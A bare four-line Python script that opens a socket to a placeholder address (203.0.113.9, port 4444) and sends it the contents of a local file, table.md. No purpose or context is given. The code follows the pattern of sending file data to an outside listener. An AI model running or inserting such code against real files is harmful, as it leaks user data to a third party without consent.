import socket

s = socket.create_connection(('203.0.113.9', 4444))
s.sendall(open('table.md', 'rb').read())
